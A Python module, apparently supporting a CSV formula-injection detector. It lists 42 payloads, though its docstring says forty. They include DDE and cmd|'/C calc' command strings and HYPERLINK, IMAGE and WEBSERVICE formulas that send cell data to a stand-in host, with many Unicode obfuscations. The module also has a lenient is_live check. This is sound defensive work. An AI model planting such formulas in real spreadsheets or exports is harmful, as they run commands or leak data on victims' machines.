"""Forty texts that a spreadsheet might run, and how a program that opens a CSV file would read a cell."""

import csv
import re
import unicodedata
from io import StringIO

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"A1")',
    '=HYPERLINK("http://e.example/?x="&A1,"click")',
    '=IMPORTXML("http://e.example","//a")',
    '=IMPORTDATA("http://e.example")',
    '=WEBSERVICE("http://e.example")',
    '=IMAGE("http://e.example/"&A1)',
    "=SUM(A1:A9)*1e9",
    "=2+5+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "﹢1+1",
    "﹣1+1",
    "−1+1",
    '"=1+1"',
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1",
    'x",=1+1',
)

# What a program skips before it looks whether a cell is a formula, and what it takes for the beginning of one.
_SKIPPED = re.compile(r"^[\s\x00-\x1f\x7f-\xa0\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u206f\u3000\ufeff\"]+")
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def is_live(cell: str) -> bool:
    """Whether a program might run a cell: read as leniently as any, numbers apart."""
    if _NUMBER.fullmatch(cell):
        return False
    bare = unicodedata.normalize("NFKC", _SKIPPED.sub("", cell)).replace("−", "-").replace("–", "-")
    return bare[:1] in {"=", "+", "-", "@"}


def cells_of(content: bytes) -> list[list[str]]:
    """Read a CSV file as it is meant."""
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def every_reading(content: bytes) -> list[str]:
    """Every cell of a CSV file, also as programs read it that cut it at semicolons or tabs, or ignore quotes."""
    text = content.decode("utf-8-sig")
    found = [cell for row in cells_of(content) for cell in row]
    for mark in (";", "\t"):
        found += [cell for row in csv.reader(StringIO(text, newline=""), delimiter=mark) for cell in row]
    return found
